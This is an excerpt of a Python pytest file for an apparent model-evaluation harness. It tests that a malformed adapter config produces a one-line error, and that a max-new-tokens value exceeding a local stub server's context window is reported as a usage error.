def test_a_pathological_adapter_config_is_one_line(tmp_path: Path, tiny_adapter_dir: Path, text: str) -> None:
    import shutil

    from evals.errors import JarvisError
    from evals.models import inspect_adapter

    adapter = tmp_path / "adapter"
    shutil.copytree(tiny_adapter_dir, adapter)
    (adapter / "adapter_config.json").write_text(text, encoding="utf-8")
    with pytest.raises(JarvisError) as exc:
        inspect_adapter(adapter)
    assert str(exc.value).startswith(f"adapter config {adapter / 'adapter_config.json'}")
    assert "\n" not in str(exc.value)


def test_max_new_tokens_past_a_served_model_s_max_model_len_is_a_usage_error(
    pytester: pytest.Pytester, stub_server
) -> None:
    from tests.test_plugin import TEST_FILE

    port, _, state = stub_server
    state["max_model_len"] = 512
    pytester.makepyfile(test_bench=TEST_FILE)
    (pytester.path / "mini.yaml").write_text(MINI_SUITE, encoding="utf-8")
    result = pytester.runpytest(
        "-m", "jarvis", "--jarvis-suite=mini.yaml", "--jarvis-backend=openai",
        f"--jarvis-base-url=http://127.0.0.1:{port}/v1", "--jarvis-served-base=base",
        "--jarvis-served-adapter=tuned", "--jarvis-max-new-tokens=600", "-p", "no:cacheprovider",
    )  # fmt: skip
    test_bad_input.assert_usage_error(
        result,
        pytester.path,
        "--jarvis-max-new-tokens 600 is not below the model's context window (512 tokens, max_model_len in "
        f"http://127.0.0.1:{port}/v1/models): pass a smaller value*",
    )
